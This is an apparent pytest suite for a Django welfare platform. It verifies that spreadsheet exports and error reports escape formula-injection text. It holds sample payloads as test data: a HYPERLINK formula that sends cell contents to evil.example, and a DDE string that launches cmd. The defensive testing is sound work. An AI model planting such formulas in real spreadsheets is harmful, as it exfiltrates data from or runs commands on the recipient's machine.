"""Finding 4 of issue 12: text beginning with = + - @ (or a tab or carriage return) never becomes a
live formula in an Excel file the platform writes: the household export, the import error report,
a department batch's error report and quarantine file — and every other writer, since every module
builds its workbooks with ``safetynet.spreadsheets.Workbook``."""

# The fixtures of batch_fixtures are imported by name, and pytest passes them back as arguments.

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from conftest import first_below
from safetynet import spreadsheets
from safetynet.feeds.models import FeedBatch
from safetynet.feeds.tests.batch_fixtures import DEATHS_HEADER
from safetynet.feeds.tests.files import id_number, write_csv
from safetynet.regions.models import Level, Region
from safetynet.registry.tests.exporting import exported
from safetynet.registry.tests.import_files import family, table, xlsx_bytes

pytestmark = pytest.mark.django_db

SRC = Path(spreadsheets.__file__).parent
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _cells(content: bytes) -> list[tuple[Any, Any]]:
    """(value, data_type) of every cell, as stored in the file."""
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


def _assert_no_formula(content: bytes, text: str) -> None:
    cells = _cells(content)
    assert not [v for v, kind in cells if kind == "f"], "a formula cell was written"
    assert ("'" + text, "s") in cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("-", "-"),
        ("张三", "张三"),
        (12, 12),
        (None, None),
    ],
)
def test_escape(value: Any, expected: Any) -> None:
    assert spreadsheets.escape(value) == expected


def test_no_module_builds_a_workbook_with_openpyxl_directly() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheets.py" or "tests" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\b", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def test_both_kinds_of_workbook_escape() -> None:
    for write_only in (True, False):
        book = spreadsheets.Workbook(write_only=write_only)
        sheet = book.create_sheet("表") if write_only else book.active
        sheet.append([PAYLOAD, "正常"])
        if not write_only:
            sheet["C1"] = "=2*3"
            sheet.cell(row=2, column=1, value="@A1")
        buffer = io.BytesIO()
        book.save(buffer)
        cells = _cells(buffer.getvalue())
        assert not [v for v, kind in cells if kind == "f"]
        assert ("'" + PAYLOAD, "s") in cells


def test_household_export_escapes_an_address(
    client: Client, jinshui_officer: Any, make_household: Any
) -> None:
    make_household(jinshui_officer, address=PAYLOAD)
    client.force_login(jinshui_officer)
    _assert_no_formula(exported(client), PAYLOAD)


def test_import_error_report_escapes_the_value(
    client: Client, jinshui_officer: Any, jinshui_township: Region
) -> None:
    people = family(first_below(jinshui_township.code, Level.VILLAGE).code)
    people[1]["健康状况"] = "@很好"  # "=" would be written as a formula by the test's own file
    client.force_login(jinshui_officer)
    response = client.post(
        "/households/import/", {"file": SimpleUploadedFile("名单.xlsx", xlsx_bytes(table(people)))}
    )
    report = client.get(f"/households/import/reports/{response.context['report_token']}.xlsx")
    content = b"".join(report.streaming_content) if report.streaming else report.content
    _assert_no_formula(content, "@很好")


def test_batch_report_and_quarantine_escape_the_rows(
    client: Client, county_officer: Any, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "火化名单.csv",
        [DEATHS_HEADER, [id_number(), "张三", "2026-01-05"], [id_number(), PAYLOAD, "=1+1"]],
    )
    client.force_login(county_officer)
    client.post(
        "/feeds/upload/",
        {
            "source": "deaths",
            "period": "2026-01",
            "file": SimpleUploadedFile(path.name, path.read_bytes()),
            "accept_valid": "on",
        },
        follow=True,
    )
    batch = FeedBatch.objects.get()
    report = client.get(f"/feeds/{batch.pk}/report.xlsx")
    content = b"".join(report.streaming_content) if report.streaming else report.content
    _assert_no_formula(content, "=1+1")
    quarantine = client.get(f"/feeds/{batch.pk}/quarantine.xlsx")
    content = b"".join(quarantine.streaming_content) if quarantine.streaming else quarantine.content
    _assert_no_formula(content, PAYLOAD)
